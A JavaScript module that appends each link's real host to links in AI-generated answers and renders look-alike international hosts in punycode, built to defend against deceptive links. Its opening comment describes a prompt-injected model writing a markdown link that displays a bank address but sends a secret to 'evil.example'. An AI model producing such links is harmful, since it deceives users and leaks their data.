// The real destination of each link in an answer, shown on the link itself. A model (or a
// page that injected instructions into it) can write `[https://bank.example](https://evil.example/?d=secret)`:
// the text says one address, the link goes to another and carries data away in one click.
// Each link whose text does not already name its host gets a small "(host)" after its text;
// a host that is not plain ASCII (a look-alike such as `bаnk.example`, with a Cyrillic а) is
// always shown, as the browser's URL parser writes it: in punycode (`xn--bnk-…`). The label is
// isolated from the link's text (code.css), so no direction control in the text reorders it.
// `shownHost` is pure and runs in Node.

import { element } from "../page/helpers.js";

const WEB_PROTOCOLS = new Set(["http:", "https:"]);
// Link text that reads as an address: a scheme, or a dotted name before any path.
const LOOKS_LIKE_ADDRESS = /^(?:[a-z][a-z\d+.-]*:\/\/)?[^\s/?#@]+\.[^\s/?#@]+(?:[/?#]\S*)?$/i;

function readable(address) {
  try {
    return decodeURIComponent(address);
  } catch {
    return address;
  }
}

// A host with a label in punycode: it has letters outside ASCII, which can look like others.
const PUNYCODE_LABEL = /(?:^|\.)xn--/i;
const isInternational = (hostname) => PUNYCODE_LABEL.test(hostname) || /[^\x00-\x7f]/.test(hostname);

function hostOf(text) {
  try {
    const url = new URL(/^[a-z][a-z\d+.-]*:\/\//i.test(text) ? text : `https://${text}`);
    return url.hostname;
  } catch {
    return "";
  }
}

/**
 * What to show after a link's text: its real host (or, for mail and other schemes, the
 * address itself), or "" when the text is already that host or an address on it.
 * @param {string} text the link's text, as shown
 * @param {string} href its target
 * @param {string} base the page's address, for relative targets
 * @returns {string}
 */
export function shownHost(text, href, base) {
  let url;
  try {
    url = new URL(href, base);
  } catch {
    return "";
  }
  const label = text.trim();
  if (!WEB_PROTOCOLS.has(url.protocol)) {
    const target = readable(url.href);
    return label === target || label === target.slice(url.protocol.length) ? "" : target;
  }
  if (isInternational(url.hostname)) return url.hostname;
  const claimed = LOOKS_LIKE_ADDRESS.test(label) ? hostOf(label) : "";
  return claimed === url.hostname ? "" : url.hostname;
}

/** Add the host to every link in `root` whose text does not show it. */
export function markLinkHosts(root, base = document.baseURI) {
  for (const link of root.querySelectorAll("a[href]")) {
    const host = shownHost(link.textContent, link.getAttribute("href"), base);
    if (host) link.append(element("span", "link-host", ` (${host})`));
  }
}
